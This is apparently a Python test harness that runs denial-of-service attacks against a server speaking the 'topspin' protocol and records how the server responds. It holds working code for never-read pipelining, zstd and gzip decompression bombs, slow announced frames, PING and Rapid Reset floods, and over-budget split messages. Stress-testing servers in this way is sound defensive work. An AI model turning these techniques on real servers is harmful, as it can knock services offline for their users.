"""Attacks on the native topspin protocol (docs/protocol.md) over TCP."""
import os
import select, socket, struct, time
from common import *

MiB = 1 << 20
GET = "/kv.v1.Store/Get"; PUT = "/kv.v1.Store/Put"

class NReader:
    """Non-blocking reader of native frames: answers PINGs, grants CREDIT for what it reads,
    records END codes per call, GOAWAY and ERROR."""
    def __init__(self, s, credit=True):
        self.s = s; self.buf = bytearray(); self.ends = {}; self.goaway = None; self.error = None
        self.eof = False; self.credit = credit; self.counts = {}; self.msg_bytes = 0
        self.granted = {}

    def pump(self, timeout=0.0):
        r, _, _ = select.select([self.s], [], [], timeout)
        if not r:
            return
        try:
            d = self.s.recv(1 << 20)
        except (BlockingIOError, socket.timeout):
            return
        except OSError:
            self.eof = True; return
        if not d:
            self.eof = True; return
        self.buf += d
        out = b""
        while len(self.buf) >= 12:
            ln, typ, flags, _, cid = struct.unpack_from("<IBBHI", self.buf)
            if len(self.buf) < 12 + ln:
                break
            p = bytes(self.buf[12:12 + ln]); del self.buf[:12 + ln]
            self.counts[typ] = self.counts.get(typ, 0) + 1
            if typ == T_PING and not flags & 1:
                out += nframe(T_PING, 1, 0, p)
            elif typ == T_END:
                code, ml = struct.unpack_from("<HH", p); self.ends[cid] = (code, p[4:4 + ml].decode("utf-8", "replace"))
            elif typ == T_MESSAGE:
                self.msg_bytes += ln
                if self.credit:
                    out += nframe(T_CREDIT, 0, cid, struct.pack("<I", ln + 12))
            elif typ == T_CREDIT:
                self.granted[cid] = self.granted.get(cid, 0) + struct.unpack("<I", p)[0]
            elif typ == T_GOAWAY:
                lc, code, rl = struct.unpack_from("<IHH", p); self.goaway = (code, p[8:8 + rl].decode("utf-8", "replace"))
            elif typ == T_ERROR:
                code, rl = struct.unpack_from("<HH", p); self.error = (code, p[4:4 + rl].decode("utf-8", "replace"))
        if out:
            try: self.s.sendall(out)
            except OSError: self.eof = True

    def codes(self):
        c = {}
        for code, msg in self.ends.values():
            k = "%d:%s" % (code, msg[:50]); c[k] = c.get(k, 0) + 1
        return c

def preface_and_settings(s):
    pre = recv_exact(s, 8)
    assert pre == PREFACE, pre
    typ, _, _, _ = read_nframe(s)
    assert typ == T_SETTINGS

def attack_native_pipeline_never_read(srv, dur=None, n_calls=100000):
    """#4: one connection pipelines up to 100,000 Gets of the 1 MiB value and never reads.
    It stays 58 s (ATTACK_NEVER_READ_SECS: e.g. 75 to see the 60 s write_timeout cut it)."""
    if dur is None:
        dur = float(os.environ.get("ATTACK_NEVER_READ_SECS", "58"))
    s = native_connect(srv.host, srv.port)
    s.setblocking(False)
    t0 = time.monotonic()
    req = nframe(T_MESSAGE, 1, 0, get_request("big"))[:8]  # header prefix w/o call id, fixed below
    body = get_request("big")
    def calls(a, b):
        out = bytearray()
        for i in range(a, b):
            cid = 1 + i
            if i == 0:
                out += ncall(cid, GET, 1)
            else:
                out += nframe(T_CALL, 0, cid, struct.pack("<HBBQ", 1, 0, 0, 0) + metadata())
            out += nframe(T_MESSAGE, 1, cid, body)
        return bytes(out)
    n_sent = 0; pending = b""; queued = 0; last = time.monotonic()
    while time.monotonic() - t0 < 20:
        if not pending:
            if queued >= n_calls:
                break
            pending = calls(queued, min(queued + 1000, n_calls)); queued = min(queued + 1000, n_calls)
        try:
            k = s.send(pending)
            pending = pending[k:]; n_sent += k; last = time.monotonic()
        except BlockingIOError:
            if time.monotonic() - last > 3:
                break
            time.sleep(0.01)
        except OSError:
            break
    per_call = len(calls(1, 2))
    approx_calls = n_sent // per_call
    send_t = time.monotonic() - t0
    w = CutWatcher([s], t0, mode="state")
    while time.monotonic() - t0 < dur:
        time.sleep(0.2)
    note = ("wrote %d bytes (~%d of %s calls) %s (%.1f s); never read; %s" %
            (n_sent, approx_calls, "{:,}".format(n_calls),
             "before the server stopped reading" if n_sent < len(calls(0, 1)) + (n_calls - 1) * per_call else "all sent, none held back by the server",
             send_t, w.summary()))
    w.close_all()
    return {"notes": note, "t0": t0}

def attack_native_pipeline_1000_never_read(srv, dur=None):
    """#4 under max_concurrent_calls: one connection (ATTACK_PIPELINE_CONNS: more) pipelines
    1,000 Gets of the 1 MiB value (1 GB of answers) and never reads, so the send buffer, not the
    refused-call limit, has to bound what the server holds. Stays as long as #4."""
    n_conns = int(os.environ.get("ATTACK_PIPELINE_CONNS", "1"))
    if n_conns == 1:
        return attack_native_pipeline_never_read(srv, dur, n_calls=1000)
    if dur is None:
        dur = float(os.environ.get("ATTACK_NEVER_READ_SECS", "58"))
    body = get_request("big")
    out = bytearray()
    for i in range(1000):
        cid = 1 + i
        out += ncall(cid, GET, 1) if i == 0 else nframe(T_CALL, 0, cid, struct.pack("<HBBQ", 1, 0, 0, 0) + metadata())
        out += nframe(T_MESSAGE, 1, cid, body)
    socks = [native_connect(srv.host, srv.port) for _ in range(min(n_conns, 200))]
    t0 = time.monotonic()
    for s in socks:
        s.sendall(bytes(out))
    w = CutWatcher(socks, t0, mode="state")
    while time.monotonic() - t0 < dur:
        time.sleep(0.2)
    note = "%d conns each wrote 1,000 Gets (%d bytes); never read; %s" % (len(socks), len(out), w.summary())
    w.close_all()
    return {"notes": note, "t0": t0}

def attack_native_zstd_bombs(srv, dur=20, encoding="zstd", bomb=None):
    """#5: 20 connections, each one Get whose message (topspin-encoding: zstd, flag byte 1) is a
    1.9 KB zstd frame inflating to 60 MiB; answers are read. (encoding="gzip": a 61 KB gzip
    member inflating to 60 MiB; `bomb` replaces the compressed message.)"""
    label = "bombs" if bomb is None and encoding == "zstd" else "%s bombs" % encoding
    if bomb is None:
        bomb = pb_bomb(get_request("big"), 60 * MiB) if encoding == "zstd" else pb_gzip_bomb(get_request("big"), 60 * MiB)
    socks = [native_connect(srv.host, srv.port) for _ in range(20)]
    t0 = time.monotonic()
    for s in socks:
        s.sendall(ncall(1, GET, 0, [("topspin-encoding", encoding)]) + nframe(T_MESSAGE, 1, 1, b"\x01" + bomb))
    rds = [NReader(s) for s in socks]
    for s in socks: s.settimeout(5)
    done_at = None
    while time.monotonic() - t0 < dur:
        for r in rds: r.pump(0.01)
        if done_at is None and all(1 in r.ends or r.eof for r in rds):
            done_at = time.monotonic() - t0
            break
    codes = {}
    for r in rds:
        k = ("%d:%s" % r.ends[1]) [:60] if 1 in r.ends else ("closed" if r.eof else "pending")
        codes[k] = codes.get(k, 0) + 1
    for s in socks: s.close()
    note = "20 x %d B %s, all answered in %s; outcomes %s" % (len(bomb), label, "%.1f s" % done_at if done_at else "-", codes)
    return {"notes": note, "t0": t0}

def attack_native_gzip_bombs(srv, dur=20):
    """#5 with gzip (the encoding every server decodes by default): 20 connections, each one Get
    whose message is a 61 KB gzip member inflating to 60 MiB; answers are read."""
    return attack_native_zstd_bombs(srv, dur, encoding="gzip")

def attack_native_zstd_big_window(srv, dur=20):
    """20 connections, each one Get whose message is a 530 B zstd frame declaring a 1 GiB window
    (no content size) and inflating to 16 MiB: a decoder must refuse the window (8 MiB cap)
    from the header rather than allocate it."""
    prefix, fill = padded_prefix(get_request("big"), 16 * MiB)
    return attack_native_zstd_bombs(srv, dur, encoding="zstd", bomb=zstd_bomb(prefix, fill, window_log=30))

def attack_native_announced_frames(srv, dur=40):
    """Extra: 20 connections each start a Put, announce a 60 MiB MESSAGE frame, send 100 bytes
    of it, go quiet (still reading)."""
    socks = [native_connect(srv.host, srv.port) for _ in range(20)]
    t0 = time.monotonic()
    for s in socks:
        s.sendall(ncall(1, PUT) + struct.pack("<IBBHI", 60 * MiB, T_MESSAGE, 1, 0, 1) + b"\x0a" * 100)
    rds = [NReader(s) for s in socks]
    cut = [None] * len(socks)
    while time.monotonic() - t0 < dur:
        for i, r in enumerate(rds):
            r.pump(0.005)
            if r.eof and cut[i] is None: cut[i] = time.monotonic() - t0
    c = [x for x in cut if x]
    errs = {}
    for r in rds:
        k = str(r.error or r.ends.get(1)); errs[k] = errs.get(k, 0) + 1
    for s in socks: s.close()
    note = "20 conns x 60 MiB frame announced, 100 B sent; cut %d/20 %s; seen %s" % (
        len(c), "%.1f-%.1f s" % (min(c), max(c)) if c else "", errs)
    return {"notes": note, "t0": t0}

def attack_native_floods(srv, dur=10):
    """Extra: PING flood (reading), Rapid Reset (CALL+CANCEL x 5000), refused-call flood
    (2000 CALLs never finished), each on its own connection."""
    t0 = time.monotonic(); notes = []
    s = native_connect(srv.host, srv.port); r = NReader(s); n = 0
    try:
        for n in range(1, 5001):
            s.sendall(nframe(T_PING, 0, 0, struct.pack("<Q", n)))
            if n % 50 == 0: r.pump(0)
            if r.eof: break
    except OSError: pass
    t = time.monotonic()
    while time.monotonic() - t < 2 and not r.eof: r.pump(0.1)
    notes.append("PING x%d: acks %d, GOAWAY %s, ERROR %s" % (n, r.counts.get(T_PING, 0), r.goaway, r.error))
    s.close()
    s = native_connect(srv.host, srv.port); r = NReader(s); n = 0
    try:
        for n in range(1, 5001):
            s.sendall((ncall(n, GET, 1) if n == 1 else nframe(T_CALL, 0, n, struct.pack("<HBBQ", 1, 0, 0, 0) + metadata()))
                      + nframe(T_CANCEL, 0, n, struct.pack("<H", 1)))
            if n % 50 == 0: r.pump(0)
            if r.eof: break
    except OSError: pass
    t = time.monotonic()
    while time.monotonic() - t < 2 and not r.eof: r.pump(0.1)
    notes.append("RapidReset x%d: GOAWAY %s, ERROR %s" % (n, r.goaway, r.error))
    s.close()
    s = native_connect(srv.host, srv.port); r = NReader(s); n = 0
    try:
        for n in range(1, 2001):
            s.sendall(ncall(n, GET, 1) if n == 1 else nframe(T_CALL, 0, n, struct.pack("<HBBQ", 1, 0, 0, 0) + metadata()))
            if n % 50 == 0: r.pump(0)
            if r.eof: break
    except OSError: pass
    t = time.monotonic()
    while time.monotonic() - t < 2 and not r.eof: r.pump(0.1)
    notes.append("open CALLs x%d: refused %s, GOAWAY %s, ERROR %s" % (n, r.codes(), r.goaway, r.error))
    s.close()
    return {"notes": " | ".join(notes), "t0": t0}

def attack_native_split_over_budget(srv, dur=45, calls=20, target=54 * MiB):
    """Extra: one connection, 20 Puts each send a SPLIT message announcing 60 MiB and deliver
    54 MiB of it in whole CONTINUATION frames (within credit), then go quiet (still reading):
    no frame is ever left half-sent, so frame_timeout does not apply."""
    s = native_connect(srv.host, srv.port); s.settimeout(5)
    r = NReader(s)
    t0 = time.monotonic()
    credit = {}; sent = {}
    for i in range(calls):
        cid = 1 + i
        s.sendall((ncall(cid, PUT, 1) if i == 0 else nframe(T_CALL, 0, cid, struct.pack("<HBBQ", 1, 0, 0, 0) + metadata()))
                  + nframe(T_MESSAGE, 2, cid, struct.pack("<I", 60 * MiB) + b"\x0a"))
        credit[cid] = (1 << 20) - 17; sent[cid] = 1
    chunk = b"x" * (256 * 1024)
    last = time.monotonic()
    while time.monotonic() - t0 < 25 and not r.eof:
        r.pump(0.002)
        prog = False
        for cid in sent:
            if cid in r.ends or sent[cid] >= target:
                continue
            avail = credit[cid] + r.granted.get(cid, 0)
            if avail <= 0:
                continue
            try:
                s.sendall(nframe(T_CONT, 0, cid, chunk))
            except OSError:
                r.eof = True; break
            credit[cid] -= len(chunk) + 12; sent[cid] += len(chunk); prog = True
        if prog: last = time.monotonic()
        elif time.monotonic() - last > 3 or all(v >= target or k in r.ends for k, v in sent.items()): break
    send_t = time.monotonic() - t0; total = sum(sent.values())
    cut = None
    while time.monotonic() - t0 < dur:
        r.pump(0.1)
        if r.eof and cut is None: cut = time.monotonic() - t0
    s.close()
    return {"notes": "%d split msgs announcing 60 MiB, sent %.1f MiB in %.1f s (per call %.1f-%.1f MiB), then quiet; ends %s; ERROR %s; cut %s" % (
        calls, total / MiB, send_t, min(sent.values()) / MiB, max(sent.values()) / MiB, r.codes(), r.error,
        "at %.1f s" % cut if cut else "no (within %d s)" % dur), "t0": t0}
